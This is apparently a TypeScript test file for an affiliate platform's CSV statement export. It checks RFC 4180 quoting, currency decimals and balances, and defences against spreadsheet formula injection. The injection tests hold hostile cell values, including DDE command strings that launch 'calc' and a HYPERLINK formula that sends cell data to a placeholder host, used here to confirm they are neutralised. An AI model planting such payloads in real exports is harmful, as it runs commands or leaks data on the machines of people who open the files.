/** Protects who opens a statement: amounts are exact in every currency, text stays in its cell, and nothing of it is run. */
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { unguarded } from '../../src/kit/csv.ts'
import { adjustBalance } from '../../src/money/commissions/adjust-balance.ts'
import { csvStatement } from '../../src/money/statements/csv-statement.ts'
import { unique } from '../factories.ts'
import { useOwnScene } from '../harness.ts'
import { convert, earnOne, refund, type Terms, useRate, type Won, winCustomer } from './scene.ts'

const SEED = Number(process.env.TEST_SEED ?? 7)
const scene = useOwnScene()

async function csvOf(affiliateId: number): Promise<string> {
  let text = ''
  await csvStatement(scene.database.db, scene.account.id, affiliateId, undefined, part => {
    text += part
  })
  return text
}

/** Reads RFC 4180: the cells of each line, as a spreadsheet would see them. */
function parse(text: string): string[][] {
  const lines: string[][] = [[]]
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/y
  while (cell.lastIndex < text.length) {
    const match = cell.exec(text)
    if (!match) throw new Error(`no cell begins at ${JSON.stringify(text.slice(cell.lastIndex))}`)
    const [, quoted, plain, end] = match
    lines.at(-1)?.push(quoted?.replaceAll('""', '"') ?? (plain as string))
    if (end === '\r\n') lines.push([])
  }
  expect(lines.pop()).toEqual([])
  return lines
}

const header =
  'date,entry,type,status,campaign,customer,description,amount,currency,payout_amount,payout_currency,balance,day (UTC)'

const adjust = (won: Won, amountMinor: number, description: string) =>
  adjustBalance(scene.database.db, scene.account.id, {
    affiliateId: won.affiliate.id,
    campaignId: won.campaign.id,
    amountMinor,
    description,
  })

describe('text', () => {
  /** How a description is written in a line of the file, between the customer and the amount. */
  async function writtenAs(description: string): Promise<string> {
    const won = await winCustomer(scene)
    await adjust(won, 100, description)
    const text = await csvOf(won.affiliate.id)
    expect(text.startsWith(`${header}\r\n`)).toBe(true)
    const [, written] =
      /,approved,Programme,,(.*),1\.00,USD,1\.00,USD,1\.00,\d{4}-\d\d-\d\d\r\n$/s.exec(text) ?? []
    return written as string
  }

  it.each([
    ['plain words', 'plain words'],
    ['a, b', '"a, b"'],
    ['say "please"', '"say ""please"""'],
    ['two\nlines', '"two\nlines"'],
    ['two\r\nlines', '"two\r\nlines"'],
    ['"', '""""'],
    ['Größe 客 🎉', 'Größe 客 🎉'],
  ])('%j is written as RFC 4180 says', async (description, written) => {
    expect(await writtenAs(description)).toBe(written)
  })

  it.each([
    ['=1+1', "'=1+1"],
    ['+49 30 1234', "'+49 30 1234"],
    ['-2+3+cmd|calc', "'-2+3+cmd|calc"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1', `"'\t'=1"`],
    ['\r=1', `"'\r'=1"`],
    ['a;=1', `"a;'=1"`],
    ['＝1', "'＝1"],
    ['=HYPERLINK("http://e.example/?"&A1, "x")', '"\'=HYPERLINK(""http://e.example/?""&A1, ""x"")"'],
    ['-12.50', '-12.50'],
    ['1=1', '1=1'],
  ])('%j is never a formula', async (description, written) => {
    expect(await writtenAs(description)).toBe(written)
  })

  it('of the campaign and the customer is treated alike', async () => {
    const won = await winCustomer(scene, { name: '=cmd|"/c calc"!A1' })
    const customer_ref = unique('@SUM(1,2)')
    await convert(scene.api, { campaign_id: won.campaign.id, customer_ref, token: won.affiliate.token })
    await earnOne(scene, { ...won, customer_ref })
    const text = await csvOf(won.affiliate.id)
    expect(text).toContain(`,"'=cmd|""/c calc""!A1","'${customer_ref}",Sale `)
    expect(parse(text)[1]?.slice(4, 6)).toEqual(['\'=cmd|"/c calc"!A1', `'${customer_ref}`])
  })

  it(`of any kind comes out as it went in, behind apostrophes at most; seed ${SEED}`, async () => {
    const character = fc.constantFrom(...'=+-@\t\r\n",\'; 1a客')
    const text = fc.string({ unit: character, minLength: 1, maxLength: 12 })
    const descriptions = fc.sample(text, { seed: SEED, numRuns: 60 })
    const won = await winCustomer(scene)
    for (const description of descriptions) await adjust(won, 1, description)
    const cells = parse(await csvOf(won.affiliate.id)).slice(1)
    for (const line of cells) expect(line).toHaveLength(header.split(',').length)
    for (const [index, description] of descriptions.entries()) {
      const written = cells[index]?.[6] as string
      // A tab or line break in front has an apostrophe too, which reading back leaves.
      expect([description, `'${description}`]).toContain(unguarded(written))
      if (!/^-?\d+$/.test(written)) expect(written).not.toMatch(/^[=+\-@\t\r]/)
    }
  })
})

describe('amounts have the decimals of their currency', () => {
  /** The last cells of every line: amount, currency, payout amount, payout currency, balance. */
  async function amounts(terms: Terms, sale: { amount: number; currency: string }, back: number) {
    const won = await winCustomer(scene, terms)
    const { external_id } = await earnOne(scene, won, sale.amount, { currency: sale.currency })
    const body = { external_id: unique('refund'), sale_external_id: external_id, amount_minor: back }
    expect((await refund(scene.api, body)).status).toBe(201)
    return parse(await csvOf(won.affiliate.id))
      .slice(1)
      .map(line => line.slice(7, -1).join(' '))
  }

  it('JPY has none and KWD has three', async () => {
    await useRate(scene, 'JPY', 'KWD', '0.002')
    await useRate(scene, 'KWD', 'JPY', '490.5')
    expect(await amounts({ payout_currency: 'KWD' }, { amount: 12_345, currency: 'JPY' }, 12_340)).toEqual([
      '2469 JPY 4.938 KWD 4.938',
      '-2468 JPY -4.936 KWD 0.002',
    ])
    expect(await amounts({ payout_currency: 'JPY' }, { amount: 100_005, currency: 'KWD' }, 5)).toEqual([
      '20.001 KWD 9810 JPY 9810',
      '-0.001 KWD 0 JPY 9810',
    ])
  })

  it('USD has two, also below one', async () => {
    expect(await amounts({}, { amount: 25, currency: 'USD' }, 5)).toEqual([
      '0.05 USD 0.05 USD 0.05',
      '-0.01 USD -0.01 USD 0.04',
    ])
  })

  it('each currency has its own balance', async () => {
    const won = await winCustomer(scene, { payout_currency: 'JPY' })
    await adjust(won, 1500, 'first')
    const inKwd = await winCustomer(scene, { payout_currency: 'KWD' })
    const email = won.affiliate.email
    await scene.api.post('/affiliates', { email, campaign_id: inKwd.campaign.id })
    await adjust({ ...won, campaign: inKwd.campaign }, -5, 'second')
    await adjust(won, -1501, 'third')
    const lines = parse(await csvOf(won.affiliate.id)).slice(1)
    expect(lines.map(line => line.slice(6, -1).join(' '))).toEqual([
      'first 1500 JPY 1500 JPY 1500',
      'second -0.005 KWD -0.005 KWD -0.005',
      'third -1501 JPY -1501 JPY -1',
    ])
  })
})

it('without entries has only a header', async () => {
  const won = await winCustomer(scene)
  expect(await csvOf(won.affiliate.id)).toBe(`${header}\r\n`)
})
